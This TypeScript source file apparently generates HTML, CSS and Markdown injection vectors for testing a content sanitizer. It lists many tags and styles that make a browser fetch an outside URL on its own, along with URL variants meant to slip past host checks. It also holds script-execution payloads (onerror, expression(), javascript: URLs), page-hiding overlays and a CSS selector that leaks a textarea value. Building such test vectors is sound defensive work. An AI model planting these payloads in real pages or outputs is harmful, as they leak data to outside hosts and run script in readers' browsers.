import { crossed, type Vector } from '../vector.ts';

/** What makes a browser ask for an address without anybody clicking. */
const places: readonly ((url: string) => string)[] = [
  url => `<img src="${url}">`, url => `<img srcset="${url} 1x">`, url => `<img lowsrc="${url}" dynsrc="${url}" longdesc="${url}">`, url => `<picture><source srcset="${url}"><img></picture>`, url => `<input type=image src="${url}">`,
  url => `<video src="${url}"></video>`, url => `<video poster="${url}"></video>`, url => `<video><source src="${url}"></video>`, url => `<audio src="${url}" autoplay></audio>`, url => `<video><track default src="${url}"></video>`,
  url => `<iframe src="${url}"></iframe>`, url => `<frameset><frame src="${url}"></frameset>`, url => `<object data="${url}"></object>`, url => `<object><param name=src value="${url}"></object>`, url => `<embed src="${url}">`, url => `<applet code="${url}">`, url => `<portal src="${url}">`,
  url => `<link rel=stylesheet href="${url}">`, url => `<link rel=prefetch href="${url}">`, url => `<link rel=preload as=image href="${url}">`, url => `<link rel=modulepreload href="${url}">`, url => `<link rel=preconnect href="${url}">`,
  url => `<link rel=dns-prefetch href="${url}">`, url => `<link rel=icon href="${url}">`, url => `<link rel=manifest href="${url}">`, url => `<link rel=prerender href="${url}">`, url => `<script src="${url}"></script>`, url => `<script type=speculationrules>{"prefetch":[{"urls":["${url}"]}]}</script>`,
  url => `<base href="${url}/"><img src=x>`, url => `<meta http-equiv=refresh content="0;url=${url}">`, url => `<meta http-equiv=refresh content="0;URL='${url}'">`, url => `<body background="${url}">`, url => `<table background="${url}"><tr><td background="${url}">x</table>`,
  url => `<style>@import url("${url}");</style>`, url => `<style>@import "${url}";</style>`, url => `<style>* { background: url(${url}) }</style>`, url => `<style>@font-face { font-family: x; src: url(${url}) } * { font-family: x }</style>`,
  url => `<style>#root::before { content: url(${url}) }</style>`, url => `<div style="background: url('${url}')">x</div>`, url => `<div style="background-image: image-set('${url}' 1x)">x</div>`, url => `<ul style="list-style: url(${url})"><li>x</ul>`,
  url => `<div style="border-image: url(${url}) 1">x</div>`, url => `<div style="mask: url(${url}#m)">x</div>`, url => `<div style="cursor: url(${url}), auto">x</div>`, url => `<div style="--x: url(${url}); background: var(--x)">x</div>`, url => `<div style="filter: url(${url}#f)">x</div>`,
  url => `<svg><image href="${url}"></svg>`, url => `<svg><image xlink:href="${url}"></svg>`, url => `<svg><use href="${url}#x"></svg>`, url => `<svg><filter><feImage href="${url}"></filter></svg>`, url => `<svg><style>@import "${url}";</style></svg>`, url => `<svg><script href="${url}"></script></svg>`,
  url => `<math href="${url}">x</math>`, url => `<a href="#" ping="${url}">x</a>`, url => `<q cite="${url}">x</q>`, url => `<bgsound src="${url}">`, url => `<xml src="${url}"></xml>`, url => `<?xml-stylesheet href="${url}"?>`,
  url => `![x](${url})`, url => `![x](<${url}> "t")`, url => `![x][r]\n\n[r]: ${url}`, url => `[![x](${url})](#)`, url => `| ![x](${url}) |\n| --- |`,
];

/** The forms of an address that browsers take for one of another host. */
const forms: readonly Vector[] = [({ url }) => url, ({ url }) => url.replace('http:', ''), ({ url }) => url.replace('http://', 'http:\\\\'), ({ url }) => url.replace('http', 'ht\ntp')];

export const loads = crossed(places, forms, (place, form) => hit => place(form(hit)));

/** Styles that hide, cover or lead a reader on, or run something in a browser of old. */
export const styles: readonly Vector[] = [
  ({ code }) => `<style><img src="</style><img src=x onerror=${code}//">`,
  () => '<div style="position: fixed; inset: 0; z-index: 9999; background: red">x</div>', () => '<style>body { display: none }</style>', () => '<style>.composer { opacity: 0 }</style>', () => '<font size=9999 color=red>x</font>',
  ({ code }) => `<div style="width: expression(${code})">x</div>`, ({ code }) => `<div style="behavior: url(#default#time2)" onbegin="${code}">x</div>`, ({ code }) => `<style>x { -moz-binding: url("javascript:${code}") }</style><x>x</x>`,
  ({ code }) => `<div style="background: url('javascript:${code}')">x</div>`, ({ code }) => `<link rel=stylesheet href="javascript:${code}">`,
  ({ url }) => `<style>textarea[value^="a"] { background: url(${url}) }</style>`, ({ url }) => `<style>@namespace "${url}"; @import '${url}' layer(x);</style>`, ({ url }) => `<style>@property --x { syntax: "<url>"; inherits: true; initial-value: url(${url}) }</style>`,
  ({ url }) => `<div style="x: \\75rl(${url}); background: \\75 rl(${url})">x</div>`, ({ url }) => `<div style="background: u/**/rl(${url})">x</div>`, () => '<center><blink><marquee behavior=alternate>x</marquee></blink></center>',
];
